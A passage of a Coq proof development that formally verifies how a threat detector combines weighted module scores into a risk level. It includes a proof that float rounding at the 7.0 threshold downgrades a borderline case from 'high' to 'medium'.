         Rounded.Flt (Binary64.min (Binary64.of_Q 10.0) total_risk_score));
        ("threat_level",
         Rounded.Obj
           (VStr (if Binary64.leb (Binary64.of_Q 7.0) total_risk_score then "high"
                  else if Binary64.leb (Binary64.of_Q 4.0) total_risk_score then "medium"
                  else "low")));
        ("confidence", Rounded.Flt (Binary64.min (Binary64.of_Q 1.0) total_confidence));
        ("module_results", Rounded.Obj (VDict slots));
        ("threat_count", Rounded.Obj (VNum (Num.of_nat (List.length threats)))) ]
  | Raise e =>
      [ ("timestamp", Rounded.Obj (VStr (now_isoformat w)));
        ("threats_detected", Rounded.Obj (VList threats));
        ("threat_types", Rounded.Obj (VList types));
        ("overall_risk_score", Rounded.Flt (Binary64.of_Q 0.0));
        ("threat_level", Rounded.Obj (VStr "error"));
        ("confidence", Rounded.Flt (Binary64.of_Q 0.0));
        ("module_results", Rounded.Obj (VDict slots));
        ("threat_count", Rounded.Obj (VNum 0));
        ("error", Rounded.Obj (VStr (str_exn e))) ]
  end.

(** The loop of [_calculate_ensemble_decision] over the weights, on the
    per-module results [slots]. *)
Definition ensemble_totals (weights : Rounded.weights) (slots : dict)
  : exc (Binary64.float * Binary64.float) :=
  foldM (Rounded.ensemble_step [("module_results", VDict slots)]) weights
        (Binary64.of_Q 0.0, Binary64.of_Q 0.0).

(** A weight map with numbers for values, as the dict that
    [update_detection_weights] receives. *)
Definition weight_map (W : list (string * Rounded.number)) : Rounded.fields :=
  map (fun item =>
         (fst item,
          match snd item with
          | Rounded.Int z => Rounded.Obj (VNum (inject_Z z))
          | Rounded.Float f => Rounded.Flt f
          end))
      W.

(** The sum of a list of floats, left to right from 0.0. *)
Definition total (l : list Binary64.float) : Binary64.float :=
  fold_left Binary64.add l (Binary64.of_Q 0).

End RoundedSpec.

(** Module results of a request on which every module answered: their
    exact weighted risk under the default weights is 7. *)
Definition borderline_slots : dict :=
  [ ("signature", VDict [("detected", VBool true); ("confidence", VNum 1.0)]);
    ("file_analysis", VDict [("prediction", VStr "suspicious"); ("confidence", VNum 0.7)]);
    ("behavioral", VDict [("overall_risk_score", VNum 2)]);
    ("encrypted", VDict [("overall_risk_score", VNum 6)]);
    ("social_engineering", VDict [("overall_risk_score", VNum 9)]) ].



(** A weight map in which an int that no float can hold meets a float. *)
Definition oversized_weights : list (string * Rounded.number) :=
  [ ("signature", Rounded.Int (10 ^ 400));
    ("behavioral", Rounded.Float (Binary64.of_Q 0.5)) ].

(** * Properties *)

(** ** Arithmetic *)

Lemma add_eq a b : Num.add a b == a + b.
Proof. apply Qred_correct. Qed.

Lemma mul_eq a b : Num.mul a b == a * b.
Proof. apply Qred_correct. Qed.

Lemma div_eq a b : Num.div a b == a / b.
Proof. apply Qred_correct. Qed.

Lemma geb_true a b : Num.geb a b = true <-> b <= a.
Proof. apply Qle_bool_iff. Qed.

Lemma geb_false a b : Num.geb a b = false <-> a < b.
Proof.
  unfold Num.geb. rewrite <- not_true_iff_false, Qle_bool_iff.
  split; intro H; [apply Qnot_le_lt | apply Qlt_not_le]; exact H.
Qed.

Lemma gtb_true a b : Num.gtb a b = true <-> b < a.
Proof.
  unfold Num.gtb. rewrite negb_true_iff. apply (geb_false b a).
Qed.

Lemma gtb_false a b : Num.gtb a b = false <-> a <= b.
Proof.
  unfold Num.gtb. rewrite negb_false_iff. apply Qle_bool_iff.
Qed.

Lemma min_eq a b : Num.min a b == Qmin a b.
Proof.
  unfold Num.min. destruct (Num.gtb a b) eqn:E.
  - apply gtb_true in E. symmetry. apply Q.min_r. lra.
  - apply gtb_false in E. symmetry. apply Q.min_l. exact E.
Qed.

Lemma min_eq_compat a a' b b' :
  a == a' -> b == b' -> Num.min a b == Qmin a' b'.
Proof.
  intros Ha Hb. unfold Num.min. destruct (Num.gtb a b) eqn:E.
  - apply gtb_true in E. rewrite Q.min_r; lra.
  - apply gtb_false in E. rewrite Q.min_l; lra.
Qed.

#[global] Instance add_Proper : Proper (Qeq ==> Qeq ==> Qeq) Num.add.
Proof. intros a a' Ha b b' Hb. rewrite !add_eq, Ha, Hb. reflexivity. Qed.

#[global] Instance mul_Proper : Proper (Qeq ==> Qeq ==> Qeq) Num.mul.
Proof. intros a a' Ha b b' Hb. rewrite !mul_eq, Ha, Hb. reflexivity. Qed.

#[global] Instance geb_Proper : Proper (Qeq ==> Qeq ==> eq) Num.geb.
Proof. intros a a' Ha b b' Hb. unfold Num.geb. rewrite Ha, Hb. reflexivity. Qed.

#[global] Instance gtb_Proper : Proper (Qeq ==> Qeq ==> eq) Num.gtb.
Proof. intros a a' Ha b b' Hb. unfold Num.gtb. rewrite Ha, Hb. reflexivity. Qed.

#[global] Instance min_Proper : Proper (Qeq ==> Qeq ==> Qeq) Num.min.
Proof. intros a a' Ha b b' Hb. rewrite !min_eq, Ha, Hb. reflexivity. Qed.

(** ** Dicts *)

Lemma dict_get_set_same d k v : dict_get (dict_set d k v) k = Some v.
Proof.
  induction d as [|[k' v'] d IH]; simpl.
  - now rewrite String.eqb_refl.
  - destruct (String.eqb k k') eqn:E; simpl; rewrite ?String.eqb_refl, ?E; auto.
Qed.

Lemma dict_get_set_other d k k' v :
  k <> k' -> dict_get (dict_set d k v) k' = dict_get d k'.
Proof.
  intros Hne. induction d as [|[k0 v0] d IH]; simpl.
  - destruct (String.eqb k' k) eqn:E; [apply String.eqb_eq in E; congruence | reflexivity].
  - destruct (String.eqb k k0) eqn:E; simpl.
    + apply String.eqb_eq in E. subst k0.
      destruct (String.eqb k' k) eqn:E'; [apply String.eqb_eq in E'; congruence | reflexivity].
    + destruct (String.eqb k' k0); auto.
Qed.

Lemma dict_set_set d k v v' : dict_set (dict_set d k v) k v' = dict_set d k v'.
Proof.
  induction d as [|[k0 v0] d IH]; simpl.
  - now rewrite String.eqb_refl.
  - destruct (String.eqb k k0) eqn:E; simpl; rewrite ?String.eqb_refl, ?E; congruence.
Qed.

(** ** The blocks of [detect_threats] *)

Arguments set_item_in : simpl never.
Arguments extend_in : simpl never.
Arguments results_of : simpl never.

Section Blocks.

Variable w : World.

Lemma set_slot threats types slots name v :
  set_item_in "module_results" name v (results_of w threats types slots)
  = (Ok tt, results_of w threats types (dict_set slots name v)).
Proof. reflexivity. Qed.

Lemma extend_threats threats types slots items :
  extend_in "threats_detected" items (results_of w threats types slots)
  = (Ok tt, results_of w (threats ++ items) types slots).
Proof. reflexivity. Qed.

Lemma extend_types threats types slots items :
  extend_in "threat_types" items (results_of w threats types slots)
  = (Ok tt, results_of w threats (types ++ items) slots).
Proof. reflexivity. Qed.

(** [merge_threats] fails exactly when [merge_check] does, and never
    touches [module_results]. *)
Lemma merge_threats_results r threats types slots :
  exists threats' types',
    merge_threats r (results_of w threats types slots)
    = (merge_check r, results_of w threats' types' slots).
Proof.
  unfold merge_threats, merge_check.
  destruct (truthy (dict_get_none r "threats_detected")).
  2:{ exists threats, types. reflexivity. }
  cbv [bindM lift bind].
  destruct (dict_item r "threats_detected") as [found|e].
  2:{ exists threats, types. reflexivity. }
  destruct (py_iter found) as [items|e].
  2:{ exists threats, types. reflexivity. }
  rewrite extend_threats.
  destruct (py_iter (dict_get_default r "threat_types" (VList []))) as [tys|e].
  2:{ eexists _, types. reflexivity. }
  rewrite extend_types. eexists _, _. reflexivity.
Qed.

End Blocks.

Section Run.

Variables (self : EnhancedThreatDetector) (w : World) (data : dict).

Ltac block_done := eexists _, _; reflexivity.

Ltac merge_block r :=
  rewrite set_slot;
  match goal with
  | |- context [merge_threats r (results_of w ?t ?y ?s)] =>
      destruct (merge_threats_results w r t y s) as (threats' & types' & ->)
  end;
  destruct (merge_check r) as [[]|e]; [block_done | rewrite set_slot, dict_set_set; block_done].

Lemma run_block_results m threats types slots :
  exists threats' types',
    run_block self w data m (results_of w threats types slots)
    = (Ok tt, results_of w threats' types' (store_slot self w data slots m)).
Proof.
  unfold store_slot, stored_slot, applicable.
  destruct m; simpl run_block; simpl input_key; simpl module_name; simpl invoke;
    simpl post_check;
    cbv [run_signature run_file_analysis run_behavioral run_encrypted
         run_social_engineering].
  - destruct (dict_mem data "file_path"); [|block_done].
    cbv [try_exceptM bindM lift bind append_in].
    destruct (dict_item data "file_path") as [fp|e]; [|rewrite set_slot; block_done].
    destruct (signature_detector (detectors self) w fp) as [r|e];
      [|rewrite set_slot; block_done].
    rewrite set_slot.
    destruct (truthy (dict_get_none r "detected")); [|block_done].
    rewrite extend_threats, extend_types. block_done.
  - destruct (dict_mem data "file_path"); [|block_done].
    cbv [try_exceptM bindM lift bind append_in].
    destruct (dict_item data "file_path") as [fp|e]; [|rewrite set_slot; block_done].
    destruct (file_analyzer (detectors self) w fp) as [r|e];
      [|rewrite set_slot; block_done].
    rewrite set_slot.
    destruct (in_strings (dict_get_none r "prediction") ["malicious"; "suspicious"]);
      [|block_done].
    rewrite extend_threats, extend_types. block_done.
  - destruct (dict_mem data "system_data"); [|block_done].
    cbv [try_exceptM bindM lift bind].
    destruct (behavioral_collect (detectors self) w) as [bd|e];
      [|rewrite set_slot; block_done].
    destruct (behavioral_analyze (detectors self) w bd) as [r|e];
      [|rewrite set_slot; block_done].
    merge_block r.
  - destruct (dict_mem data "network_data"); [|block_done].
    cbv [try_exceptM bindM lift bind].
    destruct (dict_item data "network_data") as [nd|e]; [|rewrite set_slot; block_done].
    destruct (encrypted_detector (detectors self) w nd) as [r|e];
      [|rewrite set_slot; block_done].
    merge_block r.
  - destruct (dict_mem data "communication_data"); [|block_done].
    cbv [try_exceptM bindM lift bind].
    destruct (dict_item data "communication_data") as [cd|e];
      [|rewrite set_slot; block_done].
    destruct (social_engineering_detector (detectors self) w cd) as [r|e];
      [|rewrite set_slot; block_done].
    merge_block r.
Qed.

Lemma run_modules_results :
  exists threats types,
    run_modules self w data (initial_results w)
    = (Ok tt, results_of w threats types (final_slots self w data)).
Proof.
  change (initial_results w) with (results_of w [] [] []).
  unfold run_modules, final_slots, all_modules. simpl fold_left.
  destruct (run_block_results Signature [] [] []) as (t1 & y1 & H1).
  destruct (run_block_results FileAnalysis t1 y1 (store_slot self w data [] Signature))
    as (t2 & y2 & H2).
  destruct (run_block_results Behavioral t2 y2
              (store_slot self w data (store_slot self w data [] Signature) FileAnalysis))
    as (t3 & y3 & H3).
  destruct (run_block_results Encrypted t3 y3
              (store_slot self w data
                 (store_slot self w data (store_slot self w data [] Signature)
                    FileAnalysis) Behavioral))
    as (t4 & y4 & H4).
  destruct (run_block_results SocialEngineering t4 y4
              (store_slot self w data
                 (store_slot self w data
                    (store_slot self w data (store_slot self w data [] Signature)
                       FileAnalysis) Behavioral) Encrypted))
    as (t5 & y5 & H5).
  simpl run_block in *.
  exists t5, y5. unfold bindM. rewrite H1, H2, H3, H4. exact H5.
Qed.

Lemma final_slots_get m :
  dict_get (final_slots self w data) (module_name m)
  = if applicable m data then Some (stored_slot self w data m) else None.
Proof.
  unfold final_slots, all_modules, store_slot, applicable.
  destruct m; simpl fold_left; simpl input_key; simpl module_name;
    destruct (dict_mem data "file_path"), (dict_mem data "system_data"),
      (dict_mem data "network_data"), (dict_mem data "communication_data");
    reflexivity.
Qed.

End Run.

Lemma merge_threats_records w r threats types slots :
  exists types',
    merge_threats r (results_of w threats types slots)
    = (merge_check r, results_of w (threats ++ merged_items r) types' slots).
Proof.
  unfold merge_threats, merge_check, merged_items.
  destruct (truthy (dict_get_none r "threats_detected")).
  2:{ exists types. rewrite app_nil_r. reflexivity. }
  cbv [bindM lift bind].
  destruct (dict_item r "threats_detected") as [found|e].
  2:{ exists types. rewrite app_nil_r. reflexivity. }
  destruct (py_iter found) as [items|e].
  2:{ exists types. rewrite app_nil_r. reflexivity. }
  rewrite extend_threats.
  destruct (py_iter (dict_get_default r "threat_types" (VList []))) as [tys|e].
  2:{ exists types. reflexivity. }
  rewrite extend_types. eexists. reflexivity.
Qed.

Section Records.

Variables (self : EnhancedThreatDetector) (w : World) (data : dict).

Ltac same_threats := eexists; rewrite ?app_nil_r; reflexivity.

Ltac merged_block r :=
  rewrite set_slot;
  match goal with
  | |- context [merge_threats r (results_of w ?t ?y ?s)] =>
      destruct (merge_threats_records w r t y s) as (types' & ->)
  end;
  destruct (merge_check r) as [[]|e];
  [eexists; reflexivity | rewrite set_slot, dict_set_set; eexists; reflexivity].

Lemma run_block_records m threats types slots :
  exists types',
    run_block self w data m (results_of w threats types slots)
    = (Ok tt, results_of w (threats ++ module_records self w data m) types'
                         (store_slot self w data slots m)).
Proof.
  unfold store_slot, stored_slot, module_records, applicable.
  destruct m; simpl run_block; simpl input_key; simpl module_name; simpl invoke;
    simpl post_check; cbn [records_of];
    cbv [run_signature run_file_analysis run_behavioral run_encrypted
         run_social_engineering].
  - destruct (dict_mem data "file_path"); [|same_threats].
    cbv [try_exceptM bindM lift bind append_in].
    destruct (dict_item data "file_path") as [fp|e]; [|rewrite set_slot; same_threats].
    destruct (signature_detector (detectors self) w fp) as [r|e];
      [|rewrite set_slot; same_threats].
    rewrite set_slot.
    destruct (truthy (dict_get_none r "detected")); [|same_threats].
    rewrite extend_threats, extend_types. eexists. reflexivity.
  - destruct (dict_mem data "file_path"); [|same_threats].
    cbv [try_exceptM bindM lift bind append_in].
    destruct (dict_item data "file_path") as [fp|e]; [|rewrite set_slot; same_threats].
    destruct (file_analyzer (detectors self) w fp) as [r|e];
      [|rewrite set_slot; same_threats].
    rewrite set_slot.
    destruct (in_strings (dict_get_none r "prediction") ["malicious"; "suspicious"]);
      [|same_threats].
    rewrite extend_threats, extend_types. eexists. reflexivity.
  - destruct (dict_mem data "system_data"); [|same_threats].
    cbv [try_exceptM bindM lift bind].
    destruct (behavioral_collect (detectors self) w) as [bd|e];
      [|rewrite set_slot; same_threats].
    destruct (behavioral_analyze (detectors self) w bd) as [r|e];
      [|rewrite set_slot; same_threats].
    merged_block r.
  - destruct (dict_mem data "network_data"); [|same_threats].
    cbv [try_exceptM bindM lift bind].
    destruct (dict_item data "network_data") as [nd|e]; [|rewrite set_slot; same_threats].
    destruct (encrypted_detector (detectors self) w nd) as [r|e];
      [|rewrite set_slot; same_threats].
    merged_block r.
  - destruct (dict_mem data "communication_data"); [|same_threats].
    cbv [try_exceptM bindM lift bind].
    destruct (dict_item data "communication_data") as [cd|e];
      [|rewrite set_slot; same_threats].
    destruct (social_engineering_detector (detectors self) w cd) as [r|e];
      [|rewrite set_slot; same_threats].
    merged_block r.
Qed.

Lemma run_modules_records :
  exists types,
    run_modules self w data (initial_results w)
    = (Ok tt, results_of w (flat_map (module_records self w data) all_modules) types
                         (final_slots self w data)).
Proof.
  change (initial_results w) with (results_of w [] [] []).
  unfold run_modules, final_slots, all_modules. simpl fold_left. simpl flat_map.
  set (R := module_records self w data).
  set (S1 := store_slot self w data [] Signature).
  set (S2 := store_slot self w data S1 FileAnalysis).
  set (S3 := store_slot self w data S2 Behavioral).
  set (S4 := store_slot self w data S3 Encrypted).
  destruct (run_block_records Signature [] [] []) as (y1 & H1).
  destruct (run_block_records FileAnalysis ([] ++ R Signature) y1 S1) as (y2 & H2).
  destruct (run_block_records Behavioral (([] ++ R Signature) ++ R FileAnalysis) y2 S2)
    as (y3 & H3).
  destruct (run_block_records
              Encrypted ((([] ++ R Signature) ++ R FileAnalysis) ++ R Behavioral) y3 S3)
    as (y4 & H4).
  destruct (run_block_records
              SocialEngineering
              (((([] ++ R Signature) ++ R FileAnalysis) ++ R Behavioral) ++ R Encrypted)
              y4 S4)
    as (y5 & H5).
  cbn [run_block app] in H1, H2, H3, H4, H5.
  subst R S1 S2 S3 S4.
  exists y5. unfold bindM. rewrite H1, H2, H3, H4, H5.
  rewrite app_nil_r, <- !app_assoc. reflexivity.
Qed.

End Records.

(** ** The ensemble decision *)

(** The loop body reads nothing of [results] but [module_results]. *)
Lemma ensemble_step_slots w threats types slots totals item :
  ensemble_step (results_of w threats types slots) totals item
  = ensemble_step [("module_results", VDict slots)] totals item.
Proof. reflexivity. Qed.

Lemma foldM_ext {A S} (f g : S -> A -> exc S) l s :
  (forall s x, f s x = g s x) -> foldM f l s = foldM g l s.
Proof.
  intros H. revert s. induction l as [|x l IH]; intros s; simpl; auto.
  rewrite H. destruct (g s x); simpl; auto.
Qed.

Lemma decision_verdict self w threats types slots :
  dict_update (results_of w threats types slots)
              (_calculate_ensemble_decision self (results_of w threats types slots))
  = verdict_of w threats types slots (ensemble_totals (detection_weights self) slots).
Proof.
  unfold _calculate_ensemble_decision, ensemble_totals.
  rewrite (foldM_ext _ _ _ _ (ensemble_step_slots w threats types slots)).
  simpl dict_item. simpl py_len. cbv [bind try_except].
  destruct (foldM _ _ _) as [[risk conf]|e]; reflexivity.
Qed.

(** The verdict of [detect_threats]: the results of the five blocks,
    updated with the decision computed from them. *)
Lemma detect_threats_verdict self w data :
  exists threats types,
    detect_threats self w data
    = verdict_of w threats types (final_slots self w data)
        (ensemble_totals (detection_weights self) (final_slots self w data)).
Proof.
  destruct (run_modules_results self w data) as (threats & types & H).
  exists threats, types. unfold detect_threats. rewrite H.
  cbv [try_except]. apply decision_verdict.
Qed.

Lemma verdict_of_slots w threats types slots outcome :
  dict_get (verdict_of w threats types slots outcome) "module_results"
  = Some (VDict slots).
Proof. destruct outcome as [[? ?]|?]; reflexivity. Qed.

Lemma module_slot_detect self w data m :
  module_slot (detect_threats self w data) (module_name m)
  = if applicable m data then Some (stored_slot self w data m) else None.
Proof.
  destruct (detect_threats_verdict self w data) as (threats & types & ->).
  unfold module_slot. rewrite verdict_of_slots. apply final_slots_get.
Qed.

Lemma dict_get_In d k v : dict_get d k = Some v -> In (k, v) d.
Proof.
  induction d as [|[k' v'] d IH]; simpl; [discriminate|].
  destruct (String.eqb k k') eqn:E.
  - apply String.eqb_eq in E. intros [= ->]. subst. now left.
  - intros H. right. auto.
Qed.




Arguments ensemble_step : simpl never.



(** ** The ensemble decision in binary64 *)

(** Turning a comparison of floats around turns its result around. *)
Lemma SFcompare_antisym x y c :
  SFcompare x y = Some c -> SFcompare y x = Some (CompOpp c).
Proof.
  destruct x as [sx|sx| |sx mx ex], y as [sy|sy| |sy my ey]; simpl;
    try discriminate; intros [= <-];
    try (destruct sx; reflexivity); try (destruct sy; reflexivity);
    try (destruct sx, sy; reflexivity).
  destruct sx, sy; try reflexivity.
  - pose proof (Pos.compare_antisym mx my) as H. unfold Pos.compare in H.
    rewrite (Z.compare_antisym ex ey). destruct (ex ?= ey)%Z; simpl; try reflexivity.
    rewrite H. reflexivity.
  - pose proof (Pos.compare_antisym mx my) as H. unfold Pos.compare in H.
    rewrite (Z.compare_antisym ex ey). destruct (ex ?= ey)%Z; simpl; try reflexivity.
    rewrite H. destruct (Pos.compare_cont Eq mx my); reflexivity.
Qed.

(** [not (b >= a)] is [b < a] unless one side is a nan. *)
Lemma leb_false_ltb a b c :
  Binary64.leb a b = false -> Binary64.leb c b = true -> Binary64.leb a a = true ->
  Binary64.ltb b a = true.
Proof.
  unfold Binary64.leb, Binary64.ltb, SFleb, SFltb.
  destruct (SFcompare a b) as [o|] eqn:E.
  - rewrite (SFcompare_antisym _ _ _ E). destruct o; simpl; congruence.
  - intros _. destruct a, b, c; simpl in *; discriminate.
Qed.

Lemma ltb_leb_false a b :
  Binary64.ltb b a = true -> Binary64.leb a b = false.
Proof.
  unfold Binary64.leb, Binary64.ltb, SFleb, SFltb.
  destruct (SFcompare b a) as [c|] eqn:E; [|discriminate].
  rewrite (SFcompare_antisym _ _ _ E). destruct c; simpl; congruence.
Qed.

(** Adding 0.0 changes no total, but for the sign of a negative zero. *)
Lemma add_zero (total : Binary64.float) :
  total <> S754_zero true -> Binary64.add total (Binary64.of_Q 0) = total.
Proof.
  destruct total as [[|]|s| |s m e]; intros H; try reflexivity.
  exfalso. apply H. reflexivity.
Qed.

(** From 7.0 up is from 4.0 up. *)
Lemma leb_seven_four risk :
  Binary64.leb (Binary64.of_Q 7) risk = true ->
  Binary64.leb (Binary64.of_Q 4) risk = true.
Proof.
  set (seven := Binary64.of_Q 7). set (four := Binary64.of_Q 4).
  vm_compute in seven, four. subst seven four.
  unfold Binary64.leb, SFleb.
  destruct risk as [s|s| |s m e]; cbv beta iota delta [SFcompare];
    try (destruct s; intros H; exact H); try (intros H; exact H).
  destruct s; [intros H; exact H|].
  destruct (-50 ?= e)%Z; try (intros H; exact H).
  change (Pos.compare_cont Eq ?a ?b) with (Pos.compare a b).
  destruct (Pos.compare_spec 7881299347898368 m) as [E|L|G]; try discriminate; intros _.
  - subst m. reflexivity.
  - assert (L' : (4503599627370496 < m)%positive) by lia.
    apply Pos.compare_lt_iff in L'. rewrite L'. reflexivity.
Qed.

Lemma as_float_at r k :
  RoundedSpec.in_range (dict_get_default r k (VNum 0)) = true ->
  Rounded.as_float (dict_get_default r k (VNum 0.0)) = Ok (RoundedSpec.number_at r k).
Proof.
  unfold dict_get_default, RoundedSpec.number_at.
  destruct (dict_get r k) as [[| [|] | q | | |]|]; simpl RoundedSpec.in_range;
    try discriminate; try (intros _; reflexivity).
  intros H. unfold Rounded.as_float, Rounded.as_number. cbv zeta. cbv [bind].
  destruct (Qred q) as [n d] eqn:E. simpl Qden. simpl Qnum.
  destruct (Pos.eqb d 1) eqn:D; [|reflexivity].
  apply Pos.eqb_eq in D. subst d.
  unfold Rounded.to_float, Rounded.float_of_int.
  change (inject_Z n) with (n # 1). cbv zeta. rewrite H. reflexivity.
Qed.

Lemma module_result_of slots name :
  RoundedSpec.module_results slots = true ->
  RoundedSpec.module_result (VDict (Spec.result_of slots name)) = true
  /\ dict_get_default slots name (VDict []) = VDict (Spec.result_of slots name).
Proof.
  intros H. unfold Spec.result_of, dict_get_default.
  destruct (dict_get slots name) as [v|] eqn:E; [|split; reflexivity].
  apply dict_get_In in E.
  unfold RoundedSpec.module_results in H. rewrite forallb_forall in H.
  specialize (H _ E). simpl in H.
  destruct v; try discriminate. split; [exact H | reflexivity].
Qed.

(** One turn of the loop adds what the module counts for. *)
Lemma rounded_step_spec slots totals name weight :
  RoundedSpec.module_results slots = true ->
  Rounded.ensemble_step [("module_results", VDict slots)] totals (name, weight)
  = Ok (RoundedSpec.accumulate slots totals (name, weight)).
Proof.
  intros Hwf.
  destruct (module_result_of slots name Hwf) as [Hr Hget].
  unfold RoundedSpec.accumulate, RoundedSpec.counted. cbn [fst snd].
  set (r := Spec.result_of slots name) in *.
  destruct totals as [risk conf].
  unfold Rounded.ensemble_step.
  change (dict_item [("module_results", VDict slots)] "module_results")
    with (Ok (VDict slots)).
  cbv [bind py_get]. rewrite Hget.
  unfold py_in. simpl in Hr.
  destruct (dict_mem r "error") eqn:Herr; [reflexivity|].
  simpl in Hr. apply andb_true_iff in Hr. destruct Hr as [Hconf Hrisk].
  apply as_float_at in Hconf. apply as_float_at in Hrisk.
  simpl negb. cbv iota.
  unfold RoundedSpec.contribution, Spec.positive. simpl existsb.
  fold (dict_get_none r "detected"). fold (dict_get_none r "prediction").
  destruct (String.eqb name "signature") eqn:E1; simpl orb; cbv iota.
  { destruct (truthy (dict_get_none r "detected")); [|reflexivity].
    rewrite Hconf. reflexivity. }
  destruct (String.eqb name "file_analysis") eqn:E2; simpl orb; cbv iota.
  { destruct (in_strings (dict_get_none r "prediction") ["malicious"; "suspicious"]);
      [|reflexivity].
    rewrite Hconf. reflexivity. }
  destruct (_ || _); [|reflexivity].
  rewrite Hrisk. reflexivity.
Qed.

Lemma rounded_loop_spec slots weights totals :
  RoundedSpec.module_results slots = true ->
  foldM (Rounded.ensemble_step [("module_results", VDict slots)]) weights totals
  = Ok (fold_left (RoundedSpec.accumulate slots) weights totals).
Proof.
  intros Hwf. revert totals.
  induction weights as [|[name weight] weights IH]; intros totals; [reflexivity|].
  simpl foldM. rewrite (rounded_step_spec _ _ _ _ Hwf). simpl bind. apply IH.
Qed.

Lemma rounded_totals_spec slots weights :
  RoundedSpec.module_results slots = true ->
  RoundedSpec.ensemble_totals weights slots = Ok (RoundedSpec.totals weights slots).
Proof.
  intros Hwf. unfold RoundedSpec.ensemble_totals, RoundedSpec.totals.
  apply (rounded_loop_spec slots weights _ Hwf).
Qed.

(** The loop body reads nothing of [results] but [module_results]. *)
Lemma rounded_step_slots w threats types slots totals item :
  Rounded.ensemble_step (results_of w threats types slots) totals item
  = Rounded.ensemble_step [("module_results", VDict slots)] totals item.
Proof. reflexivity. Qed.

Arguments Rounded.ensemble_step : simpl never.

Lemma rounded_decision_results self w threats types slots :
  Rounded._calculate_ensemble_decision self (results_of w threats types slots)
  = RoundedSpec.decision_of
      (List.length threats)
      (RoundedSpec.ensemble_totals (Rounded.detection_weights self) slots).
Proof.
  unfold Rounded._calculate_ensemble_decision, RoundedSpec.ensemble_totals.
  rewrite (foldM_ext _ _ _ _ (rounded_step_slots w threats types slots)).
  change (dict_item (results_of w threats types slots) "threats_detected")
    with (Ok (VList threats)).
  cbv [bind try_except py_len].
  destruct (foldM _ _ _) as [[risk conf]|e]; reflexivity.
Qed.

Lemma rounded_aggregated_intro d risk conf :
  Rounded.get d "overall_risk_score"
  = Some (Rounded.Flt (Binary64.min (Binary64.of_Q 10.0) risk)) ->
  Rounded.get d "confidence"
  = Some (Rounded.Flt (Binary64.min (Binary64.of_Q 1.0) conf)) ->
  Rounded.get d "threat_level"
  = Some (Rounded.Obj
            (VStr (if Binary64.leb (Binary64.of_Q 7.0) risk then "high"
                   else if Binary64.leb (Binary64.of_Q 4.0) risk then "medium"
                   else "low"))) ->
  RoundedSpec.aggregated d (risk, conf).
Proof.
  intros Hr Hc Hl. split; [exact Hr|]. split; [exact Hc|].
  eexists. split; [exact Hl|]. cbn [fst].
  change (Binary64.of_Q 7.0) with (Binary64.of_Q 7).
  change (Binary64.of_Q 4.0) with (Binary64.of_Q 4).
  destruct (Binary64.leb (Binary64.of_Q 7) risk) eqn:E7.
  - pose proof (leb_seven_four _ E7) as E4.
    split; [split; reflexivity|]. split; split; try discriminate.
    + intros [_ H]. apply ltb_leb_false in H. congruence.
    + congruence.
  - destruct (Binary64.leb (Binary64.of_Q 4) risk) eqn:E4.
    + split; [split; discriminate|]. split; split; try discriminate; try reflexivity.
      intros _. split; [reflexivity|].
      apply (leb_false_ltb _ _ _ E7 E4). reflexivity.
    + split; [split; discriminate|]. split; split; try discriminate; try reflexivity.
      intros [H _]. discriminate H.
Qed.

Lemma non_error_module_results slots :
  RoundedSpec.non_error_results slots = true -> RoundedSpec.module_results slots = true.
Proof.
  unfold RoundedSpec.non_error_results, RoundedSpec.module_results.
  rewrite !forallb_forall. intros H slot Hin. specialize (H slot Hin).
  destruct (snd slot); try discriminate. simpl in *.
  apply andb_true_iff in H. destruct H as [_ ->]. apply orb_true_r.
Qed.

(** C2. For every collection of non-error module results and every weight
    map, the ensemble decision reports the totals that the design
    document describes, accumulated in floats from 0.0 in the order of
    the weight map: each weighted module adds weight x confidence x 10 to
    the risk total and weight x confidence to the confidence total when
    it is signature or file_analysis with a positive verdict (and nothing
    otherwise), or weight x overall_risk_score and weight x
    (overall_risk_score / 10) when it is behavioral, encrypted or
    social_engineering; the reported risk score is min(10.0, risk total),
    the confidence min(1.0, confidence total), and the threat level is
    high iff the risk total is >= 7.0, medium iff it is >= 4.0 and < 7.0,
    low otherwise. *)
Theorem ensemble_decision_accumulates_weighted_scores :
  forall (self : Rounded.EnhancedThreatDetector) (w : World)
         (threats types : list value) (slots : dict),
    RoundedSpec.non_error_results slots = true ->
    RoundedSpec.aggregated
      (Rounded._calculate_ensemble_decision self (results_of w threats types slots))
      (RoundedSpec.totals (Rounded.detection_weights self) slots).
Proof.
  intros self w threats types slots Hwf.
  rewrite rounded_decision_results.
  rewrite (rounded_totals_spec _ _ (non_error_module_results _ Hwf)).
  destruct (RoundedSpec.totals _ _) as [risk conf].
  apply rounded_aggregated_intro; reflexivity.
Qed.

(** X30. Rounding decides at a threshold.  Under the default weights the
    exact weighted risk of the module results signature 1.0 (detected),
    file_analysis 0.7 (suspicious), behavioral 2, encrypted 6 and
    social_engineering 9 is 7; the total that the floats accumulate is
    6.999999999999999, and the reported threat level is "medium", not
    "high". *)
Theorem rounded_total_misses_the_threshold :
  let results := results_of quiet_world [] [] borderline_slots in
  let decision :=
    Rounded._calculate_ensemble_decision (Rounded.init behavioral_only) results in
  Spec.weighted_risk default_weights borderline_slots == 7
  /\ fst (RoundedSpec.totals Rounded.default_weights borderline_slots)
     = S754_finite false 7881299347898367 (-50)
  /\ Binary64.ltb (fst (RoundedSpec.totals Rounded.default_weights borderline_slots))
                  (Binary64.of_Q 7) = true
  /\ Rounded.get decision "threat_level" = Some (Rounded.Obj (VStr "medium")).
Proof. vm_compute. repeat split. Qed.

(** ** Isolation of a faulting module *)

Lemma rounded_decision_verdict self w threats types slots :
  Rounded.update
    (Rounded.of_dict (results_of w threats types slots))
    (Rounded._calculate_ensemble_decision self (results_of w threats types slots))
  = RoundedSpec.verdict_of
      w threats types slots
      (RoundedSpec.ensemble_totals (Rounded.detection_weights self) slots).
Proof.
  rewrite rounded_decision_results.
  destruct (RoundedSpec.ensemble_totals _ _) as [[risk conf]|e]; reflexivity.
Qed.

(** The verdict of [detect_threats]: the results of the five blocks,
    updated with the decision computed from them. *)
Lemma rounded_detect_threats_verdict self w data :
  exists types,
    Rounded.detect_threats self w data
    = RoundedSpec.verdict_of
        w (flat_map (RoundedSpec.records self w data) all_modules) types
        (final_slots (Rounded.blocks_of (Rounded.detectors self)) w data)
        (RoundedSpec.ensemble_totals
           (Rounded.detection_weights self)
           (final_slots (Rounded.blocks_of (Rounded.detectors self)) w data)).
Proof.
  destruct (run_modules_records (Rounded.blocks_of (Rounded.detectors self)) w data)
    as (types & H).
  exists types. unfold Rounded.detect_threats. rewrite H.
  cbv [try_except]. apply rounded_decision_verdict.
Qed.

